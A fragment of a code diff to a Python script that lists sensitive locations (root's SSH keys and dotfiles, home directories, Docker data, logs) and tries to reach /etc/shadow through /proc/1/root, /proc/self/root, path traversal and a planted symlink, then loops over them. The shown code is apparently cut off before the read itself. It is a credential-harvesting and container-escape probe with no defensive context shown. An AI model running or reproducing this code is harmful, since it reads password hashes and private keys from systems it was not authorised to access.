@@ -8,11 +8,11 @@ PLACES = [
     "/root/.ssh/*",
     "/root/.*",
     "/home/*/*",
-    "/var/lib/*/*",
+    "/var/lib/docker/*",
     "/var/log/*",
     "/srv/*",
 ]
-PLACES += ["/proc/1/root/etc/shadow", "/proc/self/root/etc/shadow", "/../../etc/shadow", "/work/*", "/opt/*/*"]
+PLACES += ["/proc/1/root/etc/shadow", "/proc/self/root/etc/shadow", "/../../etc/shadow"]
 os.symlink("/etc/shadow", "/tmp/link")
 for path in [found for place in PLACES for found in glob.glob(place)] + ["/tmp/link"]:
     try:
